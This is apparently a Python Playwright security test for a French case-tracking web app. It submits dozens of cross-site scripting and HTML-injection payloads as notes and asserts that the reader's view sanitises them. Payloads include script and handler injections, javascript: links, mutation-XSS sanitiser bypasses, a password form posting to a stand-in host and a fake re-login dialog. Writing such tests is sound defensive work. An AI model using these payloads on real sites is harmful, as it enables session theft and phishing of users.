"""A member writes what an attacker would; whoever reads it is as safe as with any other text."""

import uuid

from playwright.sync_api import expect

from tests.browser.acts import choose_tab, create_situation, open_situation

RUBRIQUE = "Cellule de veille"
ELSEWHERE = "https://exemple.invalid"
RUN = "window.pwned=1"
ASK = f"fetch('{ELSEWHERE}/vol')"
LONG = 49_000
# After <p>, which makes a text HTML; each in a suivi of its own.
MARKUP = [
    # Scripts
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script\x0c>{RUN}</script\n>",
    f"<script/x>{RUN}</script/x>",
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    f"</p></div></article></li></ol></main><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    # Handlers
    f"<img src=x onerror={RUN}>",
    f"<p onclick={RUN} onmouseover={RUN} onpointerenter={RUN}>gestes</p>",
    f"<a href={ELSEWHERE} onfocus={RUN} autofocus tabindex=1>visée</a>",
    f"<body onload={RUN} onpageshow={RUN} onhashchange={RUN}>",
    f"<details open ontoggle={RUN}><summary>volet</summary></details>",
    f"<strong style=animation-name:x onanimationstart={RUN} ontransitionend={RUN}>animée</strong>",
    f"<video autoplay oncanplay={RUN}><source onerror={RUN} src={ELSEWHERE}/film></video>",
    f"<input autofocus onfocus={RUN} name=texte form=ajouter value=volé>",
    f"<img/src='x'/onerror='{RUN}'/alt='`'>",
    # Links
    f"<a href='javascript:{RUN}'>lien</a>",
    f"<a href='JaVaScRiPt:{RUN}'>lien</a>",
    f"<a href=' \x01 java\tscr\nipt:{RUN}'>lien</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>lien</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>lien</a>",
    f"<a href='vbscript:{RUN}'>lien</a>",
    "<a href='//exemple.invalid/piege'>lien</a>",
    "<a href='https:\\\\exemple.invalid' ping='https://exemple.invalid/ping'>lien</a>",
    f"<a href='{ELSEWHERE}' target=_blank download rel=opener>lien</a>",
    "<a href='/comptes/deconnexion/'>lien</a>",
    f"<a href='blob:{ELSEWHERE}/x'>lien</a><a href='file:///etc/passwd'>lien</a>",
    # SVG and MathML
    f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'><text y=20>dessin</text></a></svg>",
    f"<svg><animate xlink:href=#x attributeName=href to='javascript:{RUN}'/><a id=x></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><image href='{ELSEWHERE}/pixel.svg'/><foreignObject><img src={ELSEWHERE}/p></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>calcul</maction></math>",
    # Style
    f"<style>@import '{ELSEWHERE}/x.css'; header {{ display: none }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><link rel=prefetch href={ELSEWHERE}/x>",
    "<p style='position:fixed;inset:0;z-index:99;background:red'>rideau</p>",
    f"<p style='width:expression({RUN});background:url({ELSEWHERE}/fond)'>fond</p>",
    "<p class='mask visually-hidden' id=masque hidden>classe</p>",
    # Other documents, other forms
    f"<iframe src='{ELSEWHERE}/cadre'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/ailleurs'>",
    f"<base href='{ELSEWHERE}/'><base target=_blank>",
    f"<form action={ELSEWHERE}/mdp><label>Mot de passe<input></label><button>OK</button></form>",
    "<form id=ajouter><button form=ajouter formaction=/comptes/deconnexion/>Enregistrer</button>",
    f"<object data={ELSEWHERE}/objet></object><embed src={ELSEWHERE}/objet><applet code=x>",
    f"<frameset onload={RUN}><frame src={ELSEWHERE}></frameset>",
    f"<img src={ELSEWHERE}/pixel srcset='{ELSEWHERE}/2x 2x'><audio src={ELSEWHERE}/son autoplay>",
    f"<dialog open>Session expirée. <a href='{ELSEWHERE}/entrer'>Se reconnecter</a></dialog>",
    # Mutations: harmless when parsed once, harmful when parsed again
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><p id='--&gt;&lt;img src onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template><xmp><p title='</xmp><img src onerror={RUN}>'>",
    f"<textarea></textarea><img src onerror={RUN}><title><p id='</title><img src onerror={RUN}>'>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<a href='https://a.invalid/`onmouseover={RUN} \"><img src=x onerror={RUN}>'>guillemets</a>",
    # Broken and twisted
    "<strong><em><a href='https://a.invalid'><ul><li><h3><blockquote></strong></em></p></ul></a>",
    "</ol></li></article></section></div></main></body></html><!--",
    f"<\x01script>{RUN}</script>\x1b[2J\x07",
    "\u202eesrever\u2066 \u2068 \u200f\u061c\ufeff\u200b" + "e" + "\u0301" * 400,
    f"＜script＞{RUN}＜/script＞+ADw-script+AD4-{RUN}+ADw-/script+AD4-<ſcript>{RUN}</ſcript>",
    # Long
    "m" * LONG,
    "<blockquote>" * (LONG // 12),
    "<a href='https://a.invalid'><strong>" * (LONG // 37),
    "<" * LONG,
]
PLAIN = [
    f"<script>{RUN}</script>",
    f"javascript:{RUN}",
    "{{ 7|add:7 }}{% csrf_token %}",
    "</p>&lt;",
]
HARMLESS = "Rendez-vous pris avec la famille."
# What is in the rich texts on screen: the names of tags, of attributes, and the addresses.
CONTENTS = """() => {
    const all = [...document.querySelectorAll('.prose *')];
    const links = all.filter((element) => element.hasAttribute('href'));
    return {
        tags: [...new Set(all.map((element) => element.tagName.toLowerCase()))],
        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
        schemes: [...new Set(links.map((link) => link.protocol))],
        rels: [...new Set(links.map((link) => link.rel))],
        text: document.querySelector('.timeline').innerText,
    };
}"""
TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "h3", "h4", "a"}


def test_hostile_texts_are_read_without_harm(open_browser):
    writer = open_browser("cpe", javascript=False)
    code = create_situation_in(
        writer, RUBRIQUE, f"<script>{RUN}</script>\n\n<img src=x onerror={RUN}>"
    )
    texts = [f"<p>Piège {number:02}</p>{markup}" for number, markup in enumerate(MARKUP)]
    send = sender(writer)
    send("<p>Un zéro\0</p>", status=400)
    for text in [*texts, *PLAIN, HARMLESS]:
        send(text)
    search(writer, f"'\"><script>{RUN}</script>")
    expect(writer.get_by_text("Aucune situation ne correspond.")).to_be_visible()

    reader = open_browser("infirmiere")
    open_situation(reader, RUBRIQUE, code)
    reader.wait_for_load_state("networkidle")
    read = reader.evaluate(CONTENTS)
    # Every text is there, in the place of its own, whatever the others tried to close or to open.
    shown = reader.locator(".timeline > li > article > .prose")
    expect(shown).to_have_count(len(texts) + len(PLAIN) + 1)
    found = shown.evaluate_all("all => all.map((one) => one.firstElementChild.innerText)")
    assert found[::-1][: len(MARKUP)] == [f"Piège {number:02}" for number in range(len(MARKUP))]
    assert set(read["tags"]) <= TAGS
    assert set(read["attributes"]) <= {"href", "rel"}
    assert set(read["schemes"]) <= {"https:", "mailto:"}
    assert set(read["rels"]) == {"noopener noreferrer nofollow"}
    assert not set(read["text"]) & set("\x00\x01\x07\x1b\u202e\u2066\u2068")
    for text in PLAIN:
        expect(shown.get_by_text(text, exact=True)).to_have_count(1)
    is_whole(reader)
    # The gestures that would set a trap off.
    for link in shown.locator("a:not([href])").filter(has_text="lien").all():
        link.click()
    shown.get_by_text("gestes").click()
    reader.evaluate("location.hash = 'piege'")
    is_whole(reader)


def sender(page):
    """What posts a suivi as the page's own form does, whatever the editor would make of it."""
    form = page.get_by_role("form", name="Ajouter un suivi")
    fields = form.locator("[name]:not([type=radio]:not(:checked))").all()
    values = {field.get_attribute("name"): field.input_value() for field in fields}
    address, headers = form.get_attribute("action"), {"Referer": page.url}

    def send(text, *, status=302):
        sent = values | {"texte": text, "envoi": str(uuid.uuid4())}
        answer = page.request.post(address, form=sent, headers=headers, max_redirects=0)
        assert answer.status == status, (text[:80], answer.status)

    return send


def create_situation_in(page, rubrique, constats):
    page.get_by_role("link", name=rubrique).first.click()
    return create_situation(page, constats)


def search(page, words):
    choose_tab(page, "Situations")
    page.get_by_role("searchbox").fill(words)
    page.get_by_role("button", name="Rechercher").click()


def is_whole(page):
    """Nothing ran, nothing opened, and the page is still the application's own."""
    assert page.evaluate("window.pwned") is None
    assert len(page.context.pages) == 1 and len(page.frames) == 1
    expect(page.get_by_role("banner")).to_be_visible()
    expect(page.get_by_role("button", name="Se déconnecter")).to_be_in_viewport()
    expect(page.get_by_text(HARMLESS)).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
